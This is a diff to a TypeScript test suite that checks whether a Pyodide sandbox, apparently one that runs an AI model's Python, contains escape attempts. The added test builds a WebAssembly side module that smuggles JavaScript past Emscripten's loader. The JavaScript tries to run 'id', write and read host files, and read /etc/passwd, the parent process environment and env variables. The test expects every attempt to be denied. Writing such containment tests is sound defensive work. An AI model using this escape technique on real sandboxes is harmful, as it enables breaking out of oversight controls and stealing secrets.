@@ -9,6 +9,44 @@ export interface Attack {
   reported: RegExp;
   /** Text that must NOT be in the tool message (proof that nothing of the host leaked). */
   leaks?: RegExp[];
+  /** Files on the host the attack tries to create; none may exist afterwards. */
+  hostCanaries?: string[];
+}
+
+/**
+ * JavaScript smuggled in as an Emscripten side module: Python writes a ~60-byte WebAssembly
+ * module whose `__em_js__` export points at a bytes object holding `(void)<::>BODY`, then imports
+ * it. CPython dlopen()s it, and Emscripten's loader evaluates `() => BODY;` as JavaScript in its
+ * own scope, where `require` exists; BODY here is a comma expression, so its second half runs at
+ * once. With the wall up it runs, but in a process that may not start programs, read or write
+ * host files, or see an environment.
+ */
+export function emJsSideModule(js: string): string {
+  const source = `(void)<::>0, (() => { ${js} })()`;
+  return [
+    'import os, sys',
+    `payload = ${JSON.stringify(source)}.encode() + b"\\0"`,
+    '# A bytes object\'s data starts 16 bytes into it on 32-bit CPython (refcount, type, size, hash).',
+    'address = id(payload) + 16',
+    'def leb(n):',
+    '    out = bytearray()',
+    '    while True:',
+    '        b = n & 0x7f',
+    '        n >>= 7',
+    '        if (n == 0 and not b & 0x40) or (n == -1 and b & 0x40):',
+    '            out.append(b)',
+    '            return bytes(out)',
+    '        out.append(b | 0x80)',
+    'def section(kind, body): return bytes([kind]) + leb(len(body)) + body',
+    'def name(s): return leb(len(s)) + s',
+    'dylink = section(0, name(b"dylink.0") + bytes([1]) + leb(4) + bytes(4))',
+    'glob = section(6, leb(1) + bytes([0x7f, 0]) + b"\\x41" + leb(address) + b"\\x0b")',
+    'exports = section(7, leb(1) + name(b"__em_js__tutor_escape") + bytes([3]) + leb(0))',
+    'os.makedirs("/tmp/mods", exist_ok=True)',
+    'open("/tmp/mods/escape.so", "wb").write(b"\\0asm" + bytes([1, 0, 0, 0]) + dylink + glob + exports)',
+    'sys.path.insert(0, "/tmp/mods")',
+    'import escape',
+  ].join('\n');
 }
 
 /** Names at the host's / that the sandbox's own root has no reason to list. */
@@ -21,7 +59,32 @@ const PASSWD = /root:x?:0:0/;
  */
 export function attacks(secret: string, hostFile: string): Attack[] {
   const noSecret = [new RegExp(secret)];
+  const canary = `${hostFile}.escaped`;
+  // What an escape would do first: run a program, write and read host files, read the key from
+  // the environment of this process and of its parent. Each outcome goes into the thrown error,
+  // which Python reports, so the model (and the test) read what happened.
+  const escapeJs = [
+    "const tried = [];",
+    "const attempt = (what, fn) => { try { tried.push(what + ': ' + fn()); } catch (e) { tried.push(what + ': ' + (e.code || e.message)); } };",
+    "attempt('run id', () => require('child_process').execSync('id').toString());",
+    `attempt('write', () => (require('fs').writeFileSync(${JSON.stringify(canary)}, 'escaped'), 'written'));`,
+    `attempt('read', () => require('fs').readFileSync(${JSON.stringify(hostFile)}, 'utf8'));`,
+    "attempt('passwd', () => require('fs').readFileSync('/etc/passwd', 'utf8').slice(0, 40));",
+    "attempt('parent environ', () => require('fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8'));",
+    "attempt('env', () => JSON.stringify(process.env));",
+    "throw new Error('side module JavaScript ran: ' + tried.join(' | '));",
+  ].join(' ');
   return [
+    // The class of escape the process boundary exists for (see emJsSideModule).
+    {
+      name: 'EM_JS side module → require()',
+      code: emJsSideModule(escapeJs),
+      // The JavaScript did run (so the attack is real), and every door it tried was shut by the
+      // process's permission model, not by anything inside Pyodide.
+      reported: /side module JavaScript ran: run id: ERR_ACCESS_DENIED \| write: ERR_ACCESS_DENIED \| read: ERR_ACCESS_DENIED \| passwd: ERR_ACCESS_DENIED \| parent environ: ERR_ACCESS_DENIED \| env: \{\}/,
+      leaks: [...noSecret, PASSWD, /uid=\d+/, /write: written/],
+      hostCanaries: [canary],
+    },
     // Processes and runaway CPU
     { name: 'os.fork()', code: 'import os\nprint(os.fork())', reported: /OSError: \[Errno \d+\] Function not implemented/ },
     // Interrupted or, when the interrupt lands where the loop swallows it, killed: either way a timeout.
